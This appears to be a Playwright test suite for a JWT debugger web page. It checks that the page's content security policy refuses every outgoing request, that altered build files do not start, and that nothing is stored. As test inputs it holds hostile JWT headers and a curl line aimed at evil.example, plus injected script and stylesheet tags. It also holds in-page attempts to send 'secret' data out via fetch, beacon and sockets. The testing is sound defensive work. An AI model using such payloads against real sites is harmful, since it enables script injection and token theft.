// After start-up nothing leaves the page: the browser refuses it, and the badge says what is true.
import { cpSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { LIMITS, measure } from '../../scripts/check-size.mjs';
import { integrity } from '../../scripts/page.mjs';
import { serve } from '../../scripts/serve.mjs';
import { SINGLE } from '../../scripts/single.mjs';
import { test, expect, compact } from './app.mjs';

const DIST = fileURLToPath(new URL('../../dist', import.meta.url));
const HOSTILE = compact(
  '{"alg":"RS256","jku":"https://evil.example/keys","x5u":"http://127.0.0.1:9/cert","kid":"//evil.example/k"}',
  '{"iss":"https://evil.example","picture":"https://evil.example/p.png","a":"<img src=//evil.example/x>"}',
);
const INPUTS = [
  HOSTILE,
  `curl https://evil.example/ -H 'Authorization: Bearer ${HOSTILE}'`,
  '<script src="https://evil.example/x.js"></script><link rel=stylesheet href=//evil.example/x.css>',
  'https://evil.example/#access_token=abc',
  '',
];

test('loading takes no more requests than the budget, and exactly the files that are counted', async ({ page, site }) => {
  const requests = [];
  page.on('request', (request) => requests.push(request.url().replace(site, '') || 'index.html'));
  await page.goto(site);
  await expect(page.locator('body')).toHaveAttribute('data-ready', 'true');
  await page.waitForTimeout(500);
  expect(requests.length).toBeLessThanOrEqual(LIMITS.requests);
  expect(requests.toSorted()).toEqual(measure().map(({ name }) => name).toSorted());
});

test('no request of any kind happens after data-ready, whatever is pasted', async ({ app, page }) => {
  const requests = [];
  page.on('request', (request) => requests.push(request.url()));
  page.on('websocket', (socket) => requests.push(socket.url()));
  for (const text of INPUTS) {
    await app.read({ token: text, key: text });
    await app.page.getByRole('group', { name: 'Payload view' }).getByRole('button', { name: 'Claims' }).click();
    await app.page.getByRole('group', { name: 'Payload view' }).getByRole('button', { name: 'JSON' }).click();
  }
  for (const name of ['HS256', 'RS512', 'ES384']) await app.sample.selectOption(name);
  await app.theme.click();
  // The clock ticks each second, and the badge counts.
  await page.waitForTimeout(2500);
  expect(requests).toEqual([]);
  await expect(app.seal).toHaveAttribute('data-state', 'sealed');
  await expect(app.seal).toContainText('0 requests');
});

for (const file of ['*_bg.wasm', 'start-*.js', 'jwt-debugger-app-*.js']) {
  test(`a program that is not the one that was built does not start, and the page says so: ${file}`, async ({ page, site }) => {
    await page.route(`**/${file}`, async (route) => {
      const response = await route.fetch();
      const body = Buffer.concat([await response.body(), Buffer.from(file.endsWith('.js') ? '\n' : [0, 2, 1, 0x61])]);
      const headers = Object.fromEntries(Object.entries(response.headers()).filter(([name]) => !/^content-(encoding|length)$/.test(name)));
      await route.fulfill({ status: 200, headers, body });
    });
    await page.goto(site);
    // Without its script the page waits a while before it gives up.
    if (file.startsWith('start')) {
      await expect(page.getByRole('alert')).toHaveCount(0);
      await page.evaluate(() => document.getAnimations().forEach((animation) => animation.finish()));
    }
    await expect(page.getByRole('alert')).toContainText(file.startsWith('start') ? 'It has not started' : 'Something went wrong');
    await expect(page.locator('body')).not.toHaveAttribute('data-ready', 'true');
    await expect(page.getByTestId('token-input')).toHaveCount(0);
  });
}

test('normal use violates no policy, and writes nothing to the console', async ({ page, site }) => {
  const console = [];
  page.on('console', (message) => console.push(message.text()));
  await page.addInitScript(() => {
    window.violations = [];
    addEventListener('securitypolicyviolation', (event) => window.violations.push(event.violatedDirective));
  });
  await page.goto(site);
  await expect(page.locator('body')).toHaveAttribute('data-ready', 'true');
  await page.getByTestId('token-input').fill(HOSTILE);
  await page.getByTestId('sample').selectOption('ES256');
  await page.getByRole('button', { name: /^Theme/ }).click();
  await page.getByTestId('seal').click();
  await page.keyboard.press('Escape');
  await page.waitForTimeout(300);
  expect(await page.evaluate(() => window.violations)).toEqual([]);
  // Chromium says so on each preload of data with a hash (crbug.com/981419); boot.js checks the hash itself.
  expect(console.filter((line) => !line.includes('crbug.com/981419'))).toEqual([]);
});

test('the browser refuses whatever a script in the page tries to send or load', async ({ app, page, site }) => {
  // A server that answers anyone: what reaches it was not refused.
  const reached = [];
  const server = createServer((request, response) => {
    reached.push(request.url);
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end('ok');
  });
  await new Promise((done) => server.listen(0, '127.0.0.1', done));
  const elsewhere = `http://127.0.0.1:${server.address().port}/`;
  // Without the seal the same server can be reached: without that, the test could not fail.
  const open = await page.context().newPage();
  expect(await open.evaluate((url) => fetch(url).then((answer) => answer.text()), `${elsewhere}control`)).toBe('ok');
  await open.close();
  expect(reached).toEqual(['/control']);

  // A file has no server of its own.
  for (const base of [site, elsewhere].filter((base) => base.startsWith('http'))) {
    const outcomes = await page.evaluate(async (base) => {
      const loads = (element) =>
        new Promise((done) => {
          element.onload = () => done('loaded');
          element.onerror = () => done('refused');
          document.body.append(element);
          setTimeout(() => done('nothing'), 1500);
        });
      const make = (name, attributes) => Object.assign(document.createElement(name), attributes);
      const attempt = (action) => Promise.resolve().then(action).catch(() => 'refused');
      return {
        fetch: await attempt(() => fetch(`${base}?fetch`).then(() => 'sent')),
        post: await attempt(() => fetch(`${base}?post`, { method: 'POST', body: 'secret', mode: 'no-cors' }).then(() => 'sent')),
        xhr: await attempt(
          () =>
            new Promise((done) => {
              const request = new XMLHttpRequest();
              request.onload = () => done('sent');
              request.onerror = () => done('refused');
              request.open('GET', `${base}?xhr`);
              request.send();
            }),
        ),
        image: await loads(make('img', { src: `${base}?image` })),
        script: await loads(make('script', { src: `${base}?script` })),
        style: await loads(make('link', { rel: 'stylesheet', href: `${base}?style` })),
        socket: await attempt(
          () =>
            new Promise((done) => {
              const socket = new WebSocket(`${base.replace('http', 'ws')}?socket`);
              socket.onopen = () => done('open');
              socket.onerror = () => done('refused');
            }),
        ),
        events: await attempt(
          () =>
            new Promise((done) => {
              const source = new EventSource(`${base}?events`);
              source.onopen = () => done('open');
              source.onerror = () => done('refused');
            }),
        ),
        worker: await attempt(
          () =>
            new Promise((done) => {
              const worker = new Worker(`${base}?worker`);
              worker.onerror = () => done('refused');
              setTimeout(() => done('started'), 1500);
            }),
        ),
      };
    }, base);
    // What it returns only says that it was queued: whether it arrives is counted below.
    await page.evaluate((base) => navigator.sendBeacon(`${base}?beacon`, 'secret'), base);
    expect(new Set(Object.values(outcomes)), JSON.stringify(outcomes)).toEqual(new Set(['refused']));
  }
  await page.waitForTimeout(500);
  expect(reached, 'nothing arrived').toEqual(['/control']);
  await new Promise((done) => (server.closeAllConnections(), server.close(done)));
  app.troubles.length = 0;
});

/** What the dialog tries, and what refuses it. */
const ATTEMPTS = {
  fetch: 'connect-src',
  XMLHttpRequest: 'connect-src',
  sendBeacon: 'connect-src',
  WebSocket: 'connect-src',
  EventSource: 'connect-src',
  image: 'img-src',
  sound: 'media-src',
  font: 'font-src',
  'style sheet': 'style-src-elem',
  script: 'script-src-elem',
  'import()': 'script-src-elem',
  worker: 'worker-src',
  frame: 'frame-src',
  object: 'object-src',
  form: 'form-action',
  prefetch: 'default-src',
  navigation: 'the page',
  download: 'the page',
};
const COUNT = Object.keys(ATTEMPTS).length;
// No policy governs these two: the page refuses them, and stays where it is if it does not.
const GUARDED = 2;

/** Presses the button in the dialog, waits for the end, and reads all that it says: `{ fetch: ['refused', 'refused by …'] }`. */
async function tryEverything(page) {
  if (!(await page.getByRole('dialog').isVisible())) await page.getByTestId('seal').click();
  await page.getByTestId('try-to-send').click();
  await expect(page.getByTestId('seal-outcome')).toHaveText(/^\d+ of /, { timeout: 50_000 });
  const read = (id) =>
    page.getByTestId(id).getByRole('listitem').evaluateAll((lines) =>
      lines.map((line) => [line.firstChild.textContent, line.dataset.state, line.querySelector('small').textContent]),
    );
  const attempts = await read('attempts');
  return {
    attempts: Object.fromEntries(attempts.map(([name, ...said]) => [name, said])),
    loads: await read('loads'),
    outcome: await page.getByTestId('seal-outcome').textContent(),
  };
}

test('the dialog tries everything, the browser refuses all of it by name, and the badge stays true', async ({ app, page, site, target }) => {
  const isFile = site.startsWith('file:');
  const answers = [];
  page.on('response', (response) => answers.push(response.url()));
  for (const round of [1, 2]) {
    const { attempts, loads, outcome } = await tryEverything(page);
    const wanted = Object.entries(ATTEMPTS).map(([name, directive]) => [name, ['refused', `refused by ${directive}`]]);
    // Firefox fetches nothing ahead for a file, and says nothing either.
    const silent = isFile && attempts.prefetch[0] === 'no answer' ? { prefetch: ['no answer', 'no answer'] } : {};
    expect(attempts).toEqual({ ...Object.fromEntries(wanted), ...silent });
    const browser = COUNT - GUARDED - Object.keys(silent).length;
    const end = silent.prefetch ? ', 1 without an answer' : '';
    expect(outcome, `round ${round}`).toBe(`${browser} of ${COUNT} refused by the browser, ${GUARDED} by the page${end}`);
    // What the browser lists: all that came before the seal, and of what came after it nothing that got through.
    const seal = loads.findIndex(([, state]) => state === 'seal');
    const before = new Set(loads.slice(0, seal).map(([name]) => name));
    const own = isFile ? [site] : readdirSync(DIST).filter((name) => name !== 'sw.js').map((name) => site + name.replace('index.html', ''));
    if (target !== 'hosted') expect([...before].toSorted()).toEqual(own.toSorted());
    for (const [name, state] of loads.slice(seal + 1)) expect([name.split('?')[0], state]).toEqual([isFile ? 'http://localhost/' : site, 'refused']);
    await expect(app.seal).toHaveAttribute('data-state', 'sealed');
    // What the dialog provokes itself is no attempt of a script.
    await expect(app.seal).toHaveText('Sealed · 0 requests since start');
  }
  expect(answers).toEqual([]);
  expect(page.url()).toBe(site);
  expect(page.context().pages()).toHaveLength(1);
  await page.getByRole('dialog').getByRole('button', { name: 'Close' }).click();
  await expect(page.getByRole('dialog')).toHaveCount(0);
  await expect(app.seal).toHaveAttribute('data-state', 'sealed');
  app.troubles.length = 0;
});

test('what another script tries in vain does not break the seal, and the badge counts it', async ({ app, page, site }) => {
  await page.evaluate(async (base) => {
    await new Promise((done) => {
      const image = new Image();
      image.onerror = done;
      image.src = `${base}?image`;
    });
    await fetch(`${base}?fetch`).catch(() => {});
  }, site.replace('file://', 'http://localhost'));
  await expect(app.seal).toHaveText('Sealed · 0 requests since start, 2 attempts refused');
  await expect(app.seal).toHaveAttribute('data-state', 'sealed');
  app.troubles.length = 0;
});

test('what the browser lacks has no answer, and never counts as refused', async ({ page, site }) => {
  await page.addInitScript(() => {
    delete window.EventSource;
    window.FontFace = class {
      load = () => new Promise(() => {});
    };
  });
  await page.goto(site);
  await expect(page.locator('body')).toHaveAttribute('data-ready', 'true');
  const { attempts, outcome } = await tryEverything(page);
  for (const name of ['EventSource', 'font']) expect(attempts[name], name).toEqual(['no answer', 'no answer']);
  expect(Object.values(attempts).filter(([state]) => state === 'refused')).toHaveLength(COUNT - 2);
  expect(outcome).toBe(`${COUNT - GUARDED - 2} of ${COUNT} refused by the browser, ${GUARDED} by the page, 2 without an answer`);
  await expect(page.getByTestId('seal')).toHaveAttribute('data-state', 'sealed');
});

/** A server with a copy of the page whose second policy allows anything; `alone` takes out the first one and the guard, too. */
async function unsealed(target, alone, hear) {
  const dir = mkdtempSync(join(tmpdir(), 'unsealed-'));
  const FIRST = /<meta [^>]*content="default-src 'none'[^>]*>/;
  const change = (text, what, other) => {
    const parts = text.split(what);
    expect(parts.length, 'it is there once').toBe(2);
    return parts.join(other);
  };
  const GUARD = 'window.navigation?.addEventListener("navigate"';
  const open = (script) => {
    const opened = change(script, /"default-src 'none'[^"]*"/, '"default-src * blob:"');
    return alone ? change(opened, GUARD, GUARD.replace('navigate', 'nothing')) : opened;
  };
  const path = join(dir, 'index.html');
  if (target === 'single') {
    const page = readFileSync(SINGLE, 'utf8');
    const [, script] = /<script type=module>(.*?)<\/script>/s.exec(page);
    const named = change(page.replace(script, () => open(script)), integrity(script), integrity(open(script)));
    writeFileSync(path, alone ? change(named, FIRST, '') : named);
  } else {
    cpSync(DIST, dir, { recursive: true });
    const file = join(dir, readdirSync(dir).find((name) => /^start-.*\.js$/.test(name)));
    const script = readFileSync(file, 'utf8');
    writeFileSync(file, open(script));
    const page = change(readFileSync(path, 'utf8'), integrity(script, 'sha384'), integrity(open(script), 'sha384'));
    writeFileSync(path, alone ? change(page, FIRST, '') : page);
  }
  const site = await serve({ dir, hear: (request) => hear?.(new URL(request.url, 'http://any/').search) });
  return { url: site.url, close: () => (rmSync(dir, { recursive: true }), site.close()) };
}

test('without any policy each attempt gets through, and the dialog and the badge say so', async ({ page, target }) => {
  const reached = [];
  const site = await unsealed(target, true, (search) => reached.push(search));
  await page.goto(site.url);
  await expect(page.locator('body')).toHaveAttribute('data-ready', 'true');
  const badge = page.getByTestId('seal');
  reached.length = 0;
  const { attempts, outcome, loads } = await tryEverything(page);
  expect(Object.keys(attempts)).toEqual(Object.keys(ATTEMPTS));
  for (const [name, [state]] of Object.entries(attempts)) expect.soft(state, name).toBe('not refused');
  // The server says that it was so. A worker brings its own script; the object and the frame hold the page with its files; and
  // the page does not let itself be left for an attempt.
  expect(new Set(reached.filter(Boolean)).size).toBe(COUNT - 1 - GUARDED);
  expect(outcome).toBe(`0 of ${COUNT} refused by the browser, ${COUNT} not: this page is not sealed`);
  await expect(badge).toHaveAttribute('data-state', 'open');
  await expect(badge).toContainText(`Not sealed · ${COUNT} requests since start`);
  const red = await page.evaluate(() => {
    const probe = document.createElement('p');
    probe.style.color = 'var(--bad)';
    document.body.append(probe);
    return getComputedStyle(probe).color;
  });
  const lines = page.getByTestId('attempts').getByRole('listitem');
  for (const place of [badge.locator('b'), page.getByTestId('seal-outcome'), lines.nth(0).locator('small')]) await expect(place).toHaveCSS('color', red);
  expect(loads.filter(([, state]) => state === 'not refused').length).toBeGreaterThan(8);
  expect(page.url()).toBe(site.url);
  await site.close();
});

test('without the second policy what the first one allows gets through, and nothing else', async ({ page, target }) => {
  const site = await unsealed(target, false);
  await page.goto(site.url);
  await expect(page.locator('body')).toHaveAttribute('data-ready', 'true');
  const badge = page.getByTestId('seal');
  await expect(badge).toHaveAttribute('data-state', 'sealed');
  const { attempts } = await tryEverything(page);
  const open = /^(fetch|XMLHttpRequest|sendBeacon|WebSocket|EventSource|image|style sheet|script|import\(\))$/;
  for (const [name, [state]] of Object.entries(attempts)) {
    // Whether a policy without a word for it covers this one differs by browser.
    if (name === 'prefetch') continue;
    expect.soft(state, name).toBe(target !== 'single' && open.test(name) ? 'not refused' : 'refused');
  }
  await expect(badge).toHaveAttribute('data-state', target === 'single' ? 'sealed' : 'open');
  await site.close();
});

test('a request that nobody announced turns the badge', async ({ page, target }) => {
  const site = await unsealed(target, true);
  await page.goto(site.url);
  await expect(page.locator('body')).toHaveAttribute('data-ready', 'true');
  await expect(page.getByTestId('seal')).toHaveAttribute('data-state', 'sealed');
  await page.evaluate(() => fetch('?unannounced'));
  await expect(page.getByTestId('seal')).toHaveAttribute('data-state', 'open');
  await expect(page.getByTestId('seal')).toContainText('1 request since start');
  await expect(page.getByTestId('loads').locator('li').last()).toContainText('?unannounced');
  await site.close();
});

test('there is no cookie, and storage holds the theme at most', async ({ app, page }) => {
  const stored = () => page.evaluate(() => [document.cookie, { ...localStorage }, { ...sessionStorage }]);
  await app.read({ token: HOSTILE, key: 'secret' });
  expect(await stored()).toEqual(['', {}, {}]);
  await app.theme.click();
  const [cookie, local, session] = await stored();
  expect([cookie, Object.keys(local), session]).toEqual(['', ['theme'], {}]);
  expect(await page.context().cookies()).toEqual([]);
  expect(await page.evaluate(async () => (await indexedDB.databases()).length)).toBe(0);
  // The page itself is kept for when there is no network: its files, and nothing else.
  const files = await page.evaluate(async () => {
    const keys = await Promise.all((await caches.keys()).map(async (name) => (await caches.open(name)).keys()));
    return keys.flat().map(({ url }) => url.replace(/.*\//, '') || 'index.html');
  });
  const own = measure().map(({ name }) => name);
  expect(files.filter((name) => !own.includes(name))).toEqual([]);
});

test('the address stays as it was', async ({ app, page, site }) => {
  await app.read({ token: HOSTILE, key: 'secret' });
  expect(page.url()).toBe(site);
  expect(await page.evaluate(() => history.length)).toBeLessThanOrEqual(2);
});
